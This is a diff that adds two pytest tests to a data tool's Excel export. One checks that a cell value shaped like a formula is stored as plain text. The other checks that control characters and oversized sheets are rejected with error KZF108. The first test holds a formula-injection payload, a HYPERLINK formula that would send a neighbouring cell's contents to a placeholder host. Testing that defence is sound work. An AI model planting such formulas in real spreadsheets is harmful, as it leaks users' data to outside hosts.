@@ -137,3 +137,47 @@ def test_out_never_replaces_the_data_it_reads(
         err = capsys.readouterr().err
         assert status == 2 and "error[KZF108]" in err and "which this run reads" in err, args
         assert data.read_text(encoding="utf-8") == DATA  # the panel is still there
+
+
+def test_xlsx_keeps_a_name_that_looks_like_a_formula_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import openpyxl
+
+    (tmp_path / "f.kzf").write_text(PROGRAM, encoding="utf-8")
+    attack = '=HYPERLINK("http://example.invalid/"&A1,"click")'
+    data = tmp_path / "d.csv"
+    data.write_text(
+        'entity,year,x\n"' + attack.replace('"', '""') + '",2020,1\n+1-2,2020,2\n', encoding="utf-8"
+    )
+    out = tmp_path / "r.xlsx"
+    assert main(["eval", str(tmp_path / "f.kzf"), "--data", str(data), "--out", str(out)]) == 0
+    capsys.readouterr()
+    cells = {
+        c.value: c.data_type for row in openpyxl.load_workbook(out).active.iter_rows() for c in row
+    }
+    assert cells[attack] == "s" and cells["+1-2"] == "s"  # text, not a formula ("f")
+
+
+def test_xlsx_refuses_what_excel_cannot_hold_with_kzf108(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from kzf.engine.io import output
+
+    (tmp_path / "f.kzf").write_text(PROGRAM, encoding="utf-8")
+    data = tmp_path / "d.csv"
+    data.write_text('entity,year,x\n"A\x01B",2020,1\n', encoding="utf-8")
+    status = main(
+        ["eval", str(tmp_path / "f.kzf"), "--data", str(data), "--out", str(tmp_path / "r.xlsx")]
+    )
+    err = capsys.readouterr().err
+    assert status == 2 and "error[KZF108]" in err and "control character" in err
+    assert "internal error" not in err
+    (tmp_path / "d.csv").write_text(DATA, encoding="utf-8")  # two rows and a header
+    monkeypatch.setattr(output, "XLSX_MAX_ROWS", 2)
+    status = main(
+        ["eval", str(tmp_path / "f.kzf"), "--data", str(data), "--out", str(tmp_path / "r.xlsx")]
+    )
+    err = capsys.readouterr().err
+    assert status == 2 and "do not fit an Excel sheet" in err
+    assert not (tmp_path / "r.xlsx").exists()
